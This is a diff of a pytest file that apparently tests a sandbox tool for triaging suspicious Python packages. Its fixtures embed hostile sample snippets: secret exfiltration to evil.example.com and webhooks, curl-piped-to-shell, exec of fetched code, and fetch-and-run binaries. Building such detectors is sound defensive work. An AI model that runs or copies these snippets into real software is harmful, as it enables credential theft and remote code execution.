@@ -7,16 +7,16 @@ from typing import Any
 
 import pytest
 from conftest import Snakehook
-from hostile import ONCE, assert_nothing_is_left, findings, own_phase, targets
+from hostile import assert_nothing_is_left, findings, in_one_jail, own_phase, targets
 from standins import Index
 
 CURL = pytest.mark.skipif(not shutil.which("curl"), reason="there is no curl here")
 
 
-def imported(program: Snakehook, index: Index, source: str, **settings: object) -> dict[str, Any]:
-    """The report of a package whose one module does this when it is first imported."""
-    index.add_wheel("chatty", "1.0", {"chatty.py": ONCE + source})
-    _, report, _ = program.triage("chatty", "--mode", "import", **settings)
+def reported(program: Snakehook, index: Index, source: str, **settings: object) -> dict[str, Any]:
+    """The report of a package whose module does this."""
+    index.add_wheel("chatty", "1.0", {"chatty.py": source})
+    _, report, _ = program.triage("chatty", *in_one_jail("chatty"), **settings)
     assert report["phases"], report["reason"]
     assert_nothing_is_left(program.state, program.cache)
     return report
@@ -43,7 +43,7 @@ with urllib.request.urlopen(request, timeout=10) as answer:
 
 
 def test_what_is_stolen_and_where_it_is_sent_to_is_told(program: Snakehook, index: Index) -> None:
-    report = imported(program, index, EXFILTRATION)
+    report = reported(program, index, EXFILTRATION)
     assert printed(report) == "200\n"
     assert report["coverage"]["decoy_internet"] == "full"
     (request,) = report["requests"]
@@ -53,12 +53,12 @@ def test_what_is_stolen_and_where_it_is_sent_to_is_told(program: Snakehook, inde
     assert request["bait"] == ["AWS_SECRET_ACCESS_KEY"]
     assert request["status"] == 200
     assert '{"key": "' in request["body"]["text"]
-    assert (request["phase"], request["trigger"]) == ("import", "chatty")
-    assert request["place"].endswith("chatty.py:10")
+    assert (request["phase"], request["trigger"]) == ("execute", "python -m chatty")
+    assert request["place"].endswith("chatty.py:5")
     (sent,) = (found for found in report["findings"] if found["rule"] == "secret.sent")
     assert sent["severity"] == "high"
     assert sent["title"] == "sends AWS_SECRET_ACCESS_KEY to https://evil.example.com/c?host=build"
-    assert sent["at"].endswith("chatty.py:10")
+    assert sent["at"].endswith("chatty.py:5")
     (connection,) = connections(report, ":443")
     assert connection["answer"] == "decoy"
     assert connection["tls"] == {"sni": "evil.example.com", "trusted_us": True}
@@ -74,7 +74,7 @@ def test_source_that_is_fetched_and_executed_is_told(program: Snakehook, index: 
         "import urllib.request\n"
         "exec(urllib.request.urlopen('https://stage.example.com/two.py').read())\n"
     )
-    report = imported(program, index, source)
+    report = reported(program, index, source)
     printed(report)
     (found,) = (found for found in report["findings"] if found["rule"] == "code.remote")
     assert found["severity"] == "high"
@@ -88,7 +88,7 @@ def test_a_script_that_is_fetched_and_piped_to_a_shell_is_told(
     program: Snakehook, index: Index
 ) -> None:
     source = "import os\nos.system('curl -fsSL https://get.example.com/install.sh | sh')\n"
-    report = imported(program, index, source)
+    report = reported(program, index, source)
     printed(report)
     titles = findings(report, "code.remote")
     assert "executes what it fetched from https://get.example.com/install.sh" in titles
@@ -106,7 +106,7 @@ def test_a_program_that_is_fetched_made_executable_and_run_is_told(
         "os.chmod('/tmp/agent', 0o755)\n"
         "subprocess.run(['/tmp/agent'], check=True)\n"
     )
-    report = imported(program, index, source)
+    report = reported(program, index, source)
     printed(report)
     titles = findings(report, "code.remote")
     assert "executes what it fetched from http://drop.example.com/agent" in titles
@@ -125,7 +125,7 @@ def test_bytes_without_a_protocol_are_kept_with_who_spoke_first(
         "with socket.create_connection(('2606:4700::1111', 8443), timeout=10) as sock:\n"
         "    sock.sendall(b'six')\n"
     )
-    report = imported(program, index, source)
+    report = reported(program, index, source)
     printed(report)
     (tcp,) = connections(report, "45.9.148.3:4444")
     assert (tcp["kind"], tcp["answer"]) == ("tcp", "decoy")
@@ -156,7 +156,7 @@ def test_any_resolver_is_answered_and_its_names_are_put_together(
         "        return sock.recv(4096)[3] & 15\n"
         "print([ask(0, '8.8.8.8'), ask(1, '9.9.9.9'), ask(2, '127.0.0.1')])\n"
     )
-    report = imported(program, index, source)
+    report = reported(program, index, source)
     assert printed(report) == "[0, 0, 0]\n"
     assert any("drain.example.com" in target for target in targets(report, ["dns"]))
     assert any(
@@ -181,7 +181,7 @@ kind = {{"Content-Type": "multipart/form-data; boundary=b", "User-Agent": "pytho
 print(urllib.request.urlopen(urllib.request.Request({WEBHOOK!r}, body, kind)).status)
 print(urllib.request.urlopen({BOT!r}, b"chat_id=5&text=hi").read())
 """
-    report = imported(program, index, source)
+    report = reported(program, index, source)
     assert printed(report).startswith("204\n")
     assert [request["url"] for request in report["requests"]] == [WEBHOOK, BOT]
     assert f"sends NPM_TOKEN to {WEBHOOK}" in findings(report, "secret.sent")
@@ -196,7 +196,7 @@ def test_the_whole_environment_is_told_though_no_bait_is_in_it(
         "kept = {k: v for k, v in os.environ.items() if k in ORDINARY}\n"
         "urllib.request.urlopen('http://env.example.com/', json.dumps(kept).encode())\n"
     )
-    report = imported(program, index, source)
+    report = reported(program, index, source)
     printed(report)
     assert findings(report, "secret.sent") == [
         "sends its whole environment to http://env.example.com/"
@@ -218,12 +218,12 @@ far, _ = server.accept()
 far.sendall(b"own")
 print(client.recv(9))
 """
-    report = imported(program, index, source)
+    report = reported(program, index, source)
     assert printed(report) == f"{['ECONNREFUSED'] * 4}\nb'own'\n"
 
 
 def test_without_the_decoy_internet_nothing_answers(program: Snakehook, index: Index) -> None:
-    report = imported(program, index, EXFILTRATION, DECOY_INTERNET="false")
+    report = reported(program, index, EXFILTRATION, DECOY_INTERNET="false")
     assert own_phase(report)["outcome"] == "failed"
     assert report["coverage"]["decoy_internet"] == "off"
     assert report["requests"] == []
@@ -242,7 +242,7 @@ try:
 except OSError:
     pass
 """
-    report = imported(program, index, source)
+    report = reported(program, index, source)
     printed(report)
     assert [found["rule"] for found in report["findings"]] == ["network.attempt"]
 
@@ -254,8 +254,8 @@ def test_a_run_has_names_and_certificates_of_its_own(program: Snakehook, index: 
         "bundle = open('/etc/ssl/certs/ca-certificates.crt', 'rb').read()\n"
         "print(hashlib.sha256(bundle).hexdigest())\n"
     )
-    first = printed(imported(program, index, source)).split()
-    second = printed(imported(program, index, source)).split()
+    first = printed(reported(program, index, source)).split()
+    second = printed(reported(program, index, source)).split()
     assert first[0] != second[0]
     assert first[1] != second[1]
 
@@ -270,4 +270,4 @@ def test_the_jail_can_not_change_what_it_trusts(program: Snakehook, index: Index
         "    except OSError as error:\n"
         "        print(error.strerror)\n"
     )
-    assert printed(imported(program, index, source)) == "Read-only file system\n" * 2
+    assert printed(reported(program, index, source)) == "Read-only file system\n" * 2
